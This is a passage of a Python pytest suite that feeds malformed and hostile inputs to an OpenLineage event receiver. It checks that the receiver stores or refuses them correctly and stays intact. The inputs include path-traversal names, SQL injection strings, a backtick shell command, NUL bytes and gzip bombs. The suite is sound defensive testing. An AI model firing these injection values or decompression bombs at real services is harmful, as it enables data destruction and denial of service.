    Case(
        "namelen-job-namespace",
        (
            Post(
                batch_body(
                    at := ev("long_ns", padded("marketing", NAME_MAX)),
                    ev("long_ns", padded("marketing", NAME_MAX + 1)),
                ),
                auth=f"Bearer {ADD}",
                failed={1: ("job.namespace", f"{NAME_MAX + 1} characters", "at most 2048")},
                accepted=[at],
                definition="add",
            ),
        ),
        note="checked before allowedJobNamespaces, so no reason ever quotes a huge namespace",
    ),
    Case(
        "namelen-5mb-job-name",
        one_bad(
            ev("j" * 5_000_000),
            "job.name: is 5000000 characters long; at most 2048 are accepted "
            "(limits.maxNameLength)",
        ),
        note="refused by the validation pass itself (test_a_5mb_job_name_is_rejected_quickly)",
    ),
    Case(
        "namelen-single-endpoint",
        (
            Post(
                json.dumps(put(keyed_event(), "inputs.0.name", "n" * (NAME_MAX + 1))).encode(),
                path=LINEAGE,
                status=400,
                failed={0: ("inputs.0.name", f"is {NAME_MAX + 1} characters long")},
            ),
            Post(
                json.dumps(at := put(keyed_event(), "inputs.0.name", "n" * NAME_MAX)).encode(),
                path=LINEAGE,
                accepted=[at],
            ),
        ),
        note="/api/v1/lineage applies the same bound",
    ),
    Case(
        "namelen-5mb-job-namespace-not-quoted",
        one_bad(ev("j", "e" * 5_000_000), "job.namespace", "5000000 characters"),
    ),
    Case(
        "namelen-custom-limit-raised",
        (
            Post(
                batch_body(
                    at := ev(outputs=[{"namespace": NS, "name": "t" * ANY_NAME_MAX}]),
                    ev(outputs=[{"namespace": NS, "name": "t" * (ANY_NAME_MAX + 1)}]),
                ),
                auth=f"Bearer {ANY}",
                failed={1: ("outputs.0.name", "100001 characters", "at most 100000")},
                accepted=[at],
                definition="anyns",
            ),
        ),
        note="anyns sets limits.maxNameLength to 100,000",
    ),
    Case(
        "namelen-custom-limit-lowered",
        (
            Post(
                batch_body(
                    at := ev("a" * NARROW_NAME_MAX, inputs=[{"namespace": "n" * 10, "name": "t"}]),
                    ev("a" * (NARROW_NAME_MAX + 1)),
                    ev("short", inputs=[{"namespace": NS, "name": "t"}]),
                ),
                auth=f"Bearer {NARROW}",
                failed={
                    1: ("job.name", "is 11 characters long; at most 10 are accepted"),
                    2: ("inputs.0.namespace", f"is {len(NS)} characters long"),
                },
                accepted=[at],
                definition="narrow",
            ),
        ),
        note="narrow sets limits.maxNameLength to 10: the default's 2048 does not apply",
    ),
    Case(
        "namelen-long-strings-elsewhere-are-data",
        accepted(
            with_custom(
                "c" * 10_000,
                put(keyed_event(), "job.facets.sql", {"query": "SELECT " + "1, " * 5_000 + "1"}),
            )
        ),
        note="only namespaces and names are bounded: SQL, a custom facet may be longer",
    ),
    Case(
        "namelen-deleted-facet-is-not-read",
        accepted(
            put(
                keyed_event(),
                "outputs.0.facets.symlinks",
                {"_deleted": True, "identifiers": [{"namespace": "x" * 3000, "name": "t"}]},
            )
        ),
        note="a deletion marker's content is never read, so never a key",
    ),
    # -- numbers as strings ------------------------------------------------------------------------
    Case(
        "numstr-input-row-count",
        one_bad(
            ev(
                inputs=[
                    {
                        "namespace": NS,
                        "name": "t",
                        "inputFacets": {"inputStatistics": {"rowCount": "12"}},
                    }
                ]
            ),
            "inputs.0.inputFacets.inputStatistics.rowCount",
            "integer",
        ),
    ),
    Case(
        "numstr-output-size",
        one_bad(
            ev(
                outputs=[
                    {
                        "namespace": NS,
                        "name": "t",
                        "outputFacets": {"outputStatistics": {"rowCount": 1, "size": "1024"}},
                    }
                ]
            ),
            "outputs.0.outputFacets.outputStatistics.size",
        ),
    ),
    Case(
        "numstr-schema-ordinal-position",
        one_bad(
            with_output_facet(
                "schema", {"fields": [{"name": "id", "type": "int", "ordinal_position": "1"}]}
            ),
            "outputs.0.facets.schema.fields.0.ordinal_position",
        ),
    ),
    Case(
        "numstr-assertion-success-as-string",
        one_bad(
            with_output_facet("dataQualityAssertions", _ASSERTION),
            "outputs.0.facets.dataQualityAssertions.assertions.0.success",
            "boolean",
        ),
    ),
    Case(
        "numstr-in-a-custom-facet-kept-verbatim",
        accepted(with_custom({"rowCount": "12", "ratio": "0.5"})),
        note="custom facets are not validated: the string stays a string",
    ),
    Case(
        "numstr-1e400-overflows-a-float",
        (
            Post(
                raw_event({"@V@": "1e400"}, with_custom("@V@", ev("overflow"))),
                status=400,
                failed={0: ("run.facets.custom.value", "out of range")},
            ),
        ),
        note="1e400 parses as infinity, which JSON cannot hold: refused naming the field",
    ),
    Case(
        "numstr-40-digit-integer-kept-exactly",
        accepted(with_custom(10**40 + 1)),
        note="big integers round-trip exactly (no float conversion)",
    ),
    # -- unicode -----------------------------------------------------------------------------------
    Case("unicode-rtl-override", accepted(ev(RTL)), check=stored_verbatim(RTL)),
    Case("unicode-zero-width-joiner", accepted(ev(ZWJ)), check=stored_verbatim(ZWJ)),
    Case(
        "unicode-emoji-as-escaped-surrogate-pair",
        (
            Post(
                EMOJI_BODY,
                accepted=json.loads(EMOJI_BODY)["events"],
            ),
        ),
        check=stored_verbatim(EMOJI),
        note="a valid escaped surrogate pair is the emoji; stored as its UTF-8 bytes",
    ),
    Case(
        "unicode-nfc-and-nfd-are-two-names",
        accepted(ev(CAFE_NFC), ev(CAFE_NFD)),
        check=names_are(CAFE_NFC, CAFE_NFD),
        note="names are not Unicode-normalized: two spellings are two jobs",
    ),
    Case(
        "unicode-noncharacter-in-a-facet",
        accepted(with_custom("\uffff\ufffe")),
    ),
    Case(
        "unicode-lone-high-surrogate-in-a-name",
        malformed(raw_event({"@NAME@": '"a\\ud800b"'}), "hex escape"),
        note="a lone surrogate is not a Unicode scalar value: refused, never stored half-decoded",
    ),
    Case(
        "unicode-lone-low-surrogate-in-a-facet",
        malformed(raw_event({"@V@": '"\\udc00"'}, with_custom("@V@")), "surrogate"),
    ),
    Case(
        "unicode-lone-surrogate-in-a-key",
        malformed(raw_event({"@V@": '{"\\ud800": 1}'}, with_custom("@V@")), "hex escape"),
    ),
    Case(
        "unicode-cesu8-surrogate-bytes",
        malformed(
            batch_body(ev("@NAME@")).replace(b"@NAME@", b"a\xed\xa0\x80b"), "invalid unicode"
        ),
    ),
    Case(
        "unicode-invalid-utf8-byte",
        malformed(batch_body(ev("@NAME@")).replace(b"@NAME@", b"a\xffb"), "invalid unicode"),
    ),
    # -- control characters ------------------------------------------------------------------------
    Case(
        "ctrl-raw-tab-in-a-string",
        malformed(batch_body(ev("@NAME@")).replace(b"@NAME@", b"a\tb"), "control character"),
    ),
    Case(
        "ctrl-raw-newline-in-a-name",
        malformed(batch_body(ev("@NAME@")).replace(b"@NAME@", b"a\nb"), "control character"),
    ),
    Case(
        "ctrl-raw-nul-byte",
        malformed(batch_body(ev("@NAME@")).replace(b"@NAME@", b"a\x00b"), "control character"),
    ),
    Case(
        "ctrl-escaped-nul-in-job-name",
        one_bad(ev("a\u0000b"), "job.name", "NUL"),
        note="a NUL fits in no PostgreSQL text or jsonb value: refused anywhere, naming the path",
    ),
    Case(
        "ctrl-escaped-nul-in-dataset-name",
        one_bad(ev(inputs=[{"namespace": NS, "name": "t\u0000"}]), "inputs.0.name", "NUL"),
        note="the store would hold it (raw JSON), but no PostgreSQL-backed catalog could",
    ),
    Case("ctrl-escaped-nul-in-job-namespace", one_bad(ev(namespace="etl\u0000"), "job.namespace")),
    Case("ctrl-escaped-nul-in-producer", one_bad(ev(producer="p\u0000"), "producer", "NUL")),
    Case(
        "ctrl-escaped-nul-in-run-id",
        one_bad(put(ev(), "run.runId", "\u0000"), "run.runId", "NUL"),
    ),
    Case(
        "ctrl-escaped-nul-in-a-custom-facet",
        one_bad(with_custom(["ok", "before\u0000after"]), "run.facets.custom.value.1", "NUL"),
    ),
    Case(
        "ctrl-escaped-nul-in-a-facet-key",
        one_bad(with_custom({"k\u0000": 1}), "run.facets.custom.value.k\\u0000", "key", "NUL"),
    ),
    Case(
        "ctrl-backslash-u0000-as-text-is-fine",
        accepted(with_custom("C:\\u0000\\path")),
        note="the six characters \\u0000 (an escaped backslash) are text, not a NUL",
    ),
    Case(
        "ctrl-escaped-esc-and-del-in-a-name",
        accepted(ev("bell\u0007esc\u001bdel\u007f")),
        check=stored_verbatim("bell\u0007esc\u001bdel\u007f"),
    ),
    # -- names that look like paths, queries or commands: data, stored verbatim --------------------
    Case(
        "names-dot-dot-slash",
        accepted(
            ev(
                "../../etc/passwd",
                inputs=[{"namespace": "file:///../../", "name": "..\\..\\windows\\system32"}],
            )
        ),
        check=stored_verbatim("../../etc/passwd"),
    ),
    Case(
        "names-percent-encoded-dot-dot",
        accepted(ev("%2e%2e%2f%2e%2e%2fetc")),
        check=stored_verbatim("%2e%2e%2f%2e%2e%2fetc"),
        note="not URL-decoded: %2e%2e stays six characters",
    ),
    Case(
        "names-percent-encoded-namespace",
        (
            Post(
                batch_body(e := ev("%2e%2e%2fjob", "%2e%2e%2f%2e%2e")),
                auth=f"Bearer {ANY}",
                accepted=[e],
                definition="anyns",
            ),
        ),
        check=stored_verbatim("%2e%2e%2fjob", "%2e%2e%2f%2e%2e"),
    ),
    Case(
        "names-sql-in-name-dataset-and-facet",
        accepted(
            with_custom(
                "Robert'); DROP TABLE ol_batches;--",
                ev(SQL, inputs=[{"namespace": "x' OR '1'='1", "name": "t; DELETE FROM t"}]),
            )
        ),
        check=stored_verbatim(SQL),
        note="bound parameters: the store's tables are intact afterwards (checked after each case)",
    ),
    Case(
        "names-sql-in-job-namespace",
        (
            Post(
                batch_body(e := ev("sql_ns", SQL_NS)),
                auth=f"Bearer {ANY}",
                accepted=[e],
                definition="anyns",
            ),
        ),
        check=stored_verbatim("sql_ns", SQL_NS),
    ),
    Case(
        "names-shell-metacharacters",
        accepted(with_custom(SHELL, ev(SHELL, outputs=[{"namespace": NS, "name": "`id`"}]))),
        check=stored_verbatim(SHELL),
    ),
    Case(
        "names-glob-in-namespace-does-not-widen-allowed",
        (
            Post(
                batch_body(ev("glob", "etl*")),
                status=400,
                failed={0: ("job.namespace", "'etl*'", "allowedJobNamespaces")},
            ),
        ),
        note="allowedJobNamespaces patterns match the namespace; a '*' in it is just a character",
    ),
    # -- duplicates and replays: stored as sent, deduplication is a later concern ------------------
    Case(
        "dup-same-event-twice-in-a-batch",
        accepted(_SAME, _SAME),
        note="both stored (positions 0 and 1): the receiver does not deduplicate",
    ),
    Case(
        "dup-same-batch-posted-twice",
        accepted(*_REPLAY) + accepted(*_REPLAY),
        note="a replayed batch is a second batch; the upload to the catalog is idempotent",
    ),
    Case(
        "dup-same-single-event-posted-twice",
        (
            Post(json.dumps(_SINGLE_REPLAY).encode(), path=LINEAGE, accepted=[_SINGLE_REPLAY]),
            Post(json.dumps(_SINGLE_REPLAY).encode(), path=LINEAGE, accepted=[_SINGLE_REPLAY]),
        ),
    ),
    Case(
        "dup-duplicate-json-key-last-wins",
        (
            Post(
                raw_event(
                    {"@V@": '{"a": 1, "a": 2}'},
                    e_dup := with_custom("@V@", ev("dup_key")),
                ),
                accepted=[put(e_dup, "run.facets.custom.value", {"a": 2})],
            ),
        ),
        note="RFC 8259 leaves duplicate names undefined: the last one wins, stored as parsed",
    ),
    # -- future and ancient eventTimes -------------------------------------------------------------
    Case(
        "time-year-9999",
        accepted(ev(eventTime="9999-12-31T23:59:59Z")),
        check=event_time_is(datetime(9999, 12, 31, 23, 59, 59)),
    ),
    Case(
        "time-year-9999-west-of-utc",
        one_bad(ev(eventTime="9999-12-31T23:59:59-05:00"), "eventTime", "out of range"),
        note="year 10000 in UTC: refused with the reason (was an OverflowError and a 500)",
    ),
    Case(
        "time-1970-epoch",
        accepted(ev(eventTime="1970-01-01T00:00:00Z")),
        check=event_time_is(datetime(1970, 1, 1)),
    ),
    Case(
        "time-year-0001",
        accepted(ev(eventTime="0001-01-01T00:00:00Z")),
        check=event_time_is(datetime(1, 1, 1)),
    ),
    Case(
        "time-year-0001-east-of-utc",
        one_bad(ev(eventTime="0001-01-01T00:00:00+01:00"), "eventTime", "out of range"),
    ),
    Case("time-year-0000", one_bad(ev(eventTime="0000-01-01T00:00:00Z"), "eventTime", "ISO 8601")),
    Case("time-year-10000", one_bad(ev(eventTime="10000-01-01T00:00:00Z"), "eventTime")),
    Case("time-february-30", one_bad(ev(eventTime="2026-02-30T00:00:00Z"), "eventTime")),
    Case("time-leap-second", one_bad(ev(eventTime="2016-12-31T23:59:60Z"), "eventTime")),
    # -- unknown event kinds -----------------------------------------------------------------------
    Case(
        "kind-foo-event-without-run-job-dataset",
        one_bad(
            {
                "eventTime": _T,
                "producer": "p",
                "schemaURL": "https://openlineage.io/spec/2-0-2/OpenLineage.json#/$defs/FooEvent",
            },
            "not an OpenLineage event",
        ),
    ),
    Case("kind-empty-object", one_bad({}, "not an OpenLineage event")),
    Case(
        "kind-dataset-event-carrying-a-job",
        one_bad(
            ev(schemaURL="https://openlineage.io/spec/2-0-2/OpenLineage.json#/$defs/DatasetEvent"),
            "DatasetEvent must not carry",
        ),
    ),
    Case(
        "kind-foo-event-with-run-and-job-is-a-run-event",
        accepted(_FOO_WITH_RUN),
        check=kind_is("RunEvent"),
        note="an unknown fragment does not hide what the event is: run and job make a RunEvent",
    ),
    # -- standard facets of the wrong shape --------------------------------------------------------
    Case(
        "facet-schema-fields-string",
        one_bad(with_output_facet("schema", {"fields": "id int"}), "facets.schema.fields", "list"),
    ),
    Case(
        "facet-column-lineage-fields-list",
        one_bad(
            with_output_facet("columnLineage", {"fields": []}),
            "outputs.0.facets.columnLineage.fields",
            "dictionary",
        ),
    ),
    Case(
        "facet-symlinks-identifiers-null",
        one_bad(
            with_output_facet("symlinks", {"identifiers": None}),
            "outputs.0.facets.symlinks.identifiers",
        ),
    ),
    Case(
        "facet-owner-without-name",
        one_bad(
            with_output_facet("ownership", {"owners": [{"type": "team"}]}),
            "outputs.0.facets.ownership.owners.0.name",
            "required",
        ),
    ),
    Case(
        "facet-lifecycle-unknown-value",
        one_bad(
            with_output_facet("lifecycleStateChange", {"lifecycleStateChange": "EXPLODE"}),
            "lifecycleStateChange",
            "'EXPLODE'",
        ),
    ),
    Case(
        "facet-parent-without-run",
        one_bad(put(ev(), "run.facets.parent", _PARENT_WITHOUT_RUN), "run.facets.parent.run"),
    ),
    # -- gzip bombs and encodings ------------------------------------------------------------------
    Case(
        "gzip-bomb-batch",
        refused(413, lambda: bomb(64 * 1024 * 1024), "maxBodyBytes", encoding="gzip"),
        note="cut off while inflating, at maxBodyBytes; the receiver keeps serving",
    ),
    Case(
        "gzip-bomb-single",
        refused(413, lambda: bomb(64 * 1024 * 1024), "maxBodyBytes", encoding="gzip", path=LINEAGE),
    ),
    Case(
        "gzip-bomb-multi-member",
        refused(413, multi_member_bomb, "maxBodyBytes", encoding="gzip"),
    ),
    Case(
        "gzip-declared-but-plain",
        refused(400, batch_body(ev()), "not valid gzip", encoding="gzip"),
    ),
    Case(
        "gzip-sent-without-content-encoding",
        malformed(gzip.compress(batch_body(ev())), "line 1 column 1"),
    ),
    Case("encoding-br", _encoding("br", 415)),
    Case("encoding-deflate", _encoding("deflate", 415)),
    Case("encoding-gzip-then-br", _encoding("gzip, br", 415)),
    Case("encoding-identity", _encoding("identity", 200)),
    Case(
        "encoding-uppercase-gzip",
        (
            Post(
                gzip.compress(batch_body(e := ev("upper_gzip"))),
                encoding="GZIP",
                accepted=[e],
            ),
        ),
    ),
    # -- content types -----------------------------------------------------------------------------
    Case("ctype-text-plain", _ctype("text/plain", 415)),
    Case("ctype-multipart", _ctype("multipart/form-data; boundary=xyz", 415)),
    Case("ctype-xml", _ctype("application/xml", 415)),
    Case("ctype-form-urlencoded", _ctype("application/x-www-form-urlencoded", 415)),
    Case(
        "ctype-missing-is-read-as-json",
        _ctype(None, 200),
        note="a producer that sends no Content-Type is read as JSON (curl -d does this)",
    ),
    Case("ctype-uppercase-with-charset", _ctype("APPLICATION/JSON; charset=UTF-8", 200)),
    # -- tokens of other definitions ---------------------------------------------------------------
    Case(
        "token-snap-posting-a-namespace-only-add-allows",
        (
            Post(
                batch_body(ev("campaign", "marketing_eu")),
                status=400,
                failed={
                    0: ("job.namespace", "'marketing_eu'", "allowedJobNamespaces", "etl, features")
                },
            ),
        ),
    ),
    Case(
        "token-add-posting-a-namespace-only-snap-allows",
        (
            Post(
                json.dumps(ev("load", "etl")).encode(),
                path=LINEAGE,
                auth=f"Bearer {ADD}",
                status=400,
                failed={0: ("job.namespace", "'etl'", "allowedJobNamespaces", "marketing*")},
                definition="add",
            ),
        ),
    ),
    Case(
        "token-snap-batch-mixing-namespaces",
        (
            Post(
                batch_body(
                    m1 := ev("a", "etl"), ev("b", "marketing_eu"), m3 := ev("c", "features")
                ),
                says=("not a whole snapshot",),
                failed={1: ("job.namespace", "allowedJobNamespaces")},
                accepted=[m1, m3],
            ),
        ),
        note="the batch is stored without the foreign event and is not a whole snapshot",
    ),
    Case(
        "token-add-posting-its-own-namespace",
        (
            Post(
                json.dumps(e := ev("campaign", "marketing_eu")).encode(),
                path=LINEAGE,
                auth=f"Bearer {ADD}",
                accepted=[e],
                definition="add",
            ),
        ),
    ),
    # -- Authorization header variants (sent byte for byte) ----------------------------------------
    Case("auth-no-bearer-prefix", _auth(SNAP, 401)),
    Case(
        "auth-lowercase-bearer", _auth(f"bearer {SNAP}", 200), note="schemes are case-insensitive"
    ),
    Case("auth-uppercase-bearer", _auth(f"BEARER {SNAP}", 200)),
    Case("auth-empty-token", _auth("Bearer ", 401)),
    Case("auth-only-spaces-token", _auth("Bearer      ", 401)),
    Case(
        "auth-token-with-trailing-spaces",
        _auth(f"Bearer {SNAP}   ", 200),
        note="accepted: surrounding whitespace is not part of a header value (RFC 9110 5.5)",
    ),
    Case(
        "auth-two-spaces-before-token",
        _auth(f"Bearer  {SNAP}", 200),
        note="accepted: the token is trimmed, so extra blanks cannot make a different token",
    ),
    Case("auth-tab-instead-of-space", _auth(f"Bearer\t{SNAP}", 401)),
    Case("auth-token-prefix-only", _auth(f"Bearer {SNAP[:-1]}", 401)),
    Case("auth-two-tokens", _auth(f"Bearer {SNAP}, Bearer {ADD}", 401)),
    Case("auth-basic-scheme", _auth(f"Basic {SNAP}", 401)),
    Case("auth-no-header", _auth(None, 401)),
    # -- HTTP method and path mistakes -------------------------------------------------------------
    Case("http-get-lineage", _method("GET", LINEAGE, 405, "Method Not Allowed", "POST")),
    Case("http-get-batch", _method("GET", BATCH, 405, "POST")),
    Case("http-put-batch", _method("PUT", BATCH, 405, "POST")),
    Case("http-delete-lineage", _method("DELETE", LINEAGE, 405, "POST")),
    Case(
        "http-trailing-slash-redirects",
        _method("POST", LINEAGE + "/", 307, LINEAGE),
        note="a 307 to the canonical path (the method and body are kept by a client that follows)",
    ),
    Case("http-wrong-case-path", _method("POST", "/api/v1/Lineage", 404, "Not Found")),
    Case("http-unknown-version", _method("POST", "/api/v2/lineage", 404, "Not Found")),
]

assert len(CASES) >= 60
assert len({c.id for c in CASES}) == len(CASES), "case ids are unique"


@pytest.mark.parametrize("case", CASES, ids=[c.id for c in CASES])
def test_bad_input(rx: Rx, case: Case) -> None:
    rows: list[Any] = []
    try:
        for post in case.posts:
            before = rx.batch_table()
            status, hdrs, payload = _send(rx, post)
            answer = _check_answer(post, status, hdrs, payload)
            rows += _check_store(rx, post, answer, before)
        if case.check is not None:
            case.check(rows)
    finally:
        # whatever the case did, the receiver is still serving and the store is whole
        rx.last_event = max([rx.last_event, *(r.id for r in rx.new_events())])
        _check_still_whole(rx)


def test_a_5mb_job_name_is_rejected_quickly() -> None:
    """The bound is part of the validation pass: a 5 MB job name costs milliseconds, is never
    serialized or quoted, and its neighbours are accepted."""
    import time

    from ol_dagster.receiver.intake import sort_events

    huge, good = keyed_event(), ev("good_neighbour")
    huge["job"]["name"] = "j" * 5_000_000
    # CPU time of this process: a loaded machine (-n 2, other suites) does not stretch it
    started = time.process_time()
    intake = sort_events([huge, good], ["*"], max_name_length=NAME_MAX)
    elapsed = time.process_time() - started
    [rejected] = intake.rejected
    assert rejected.reason == (
        "event 0: job.name: is 5000000 characters long; at most 2048 are accepted "
        "(limits.maxNameLength)"
    )
    assert [e.job_name for e in intake.accepted] == ["good_neighbour"]
    assert elapsed < 1.0, f"{elapsed:.3f} s of CPU for a 5 MB name (about 0.01 s expected)"
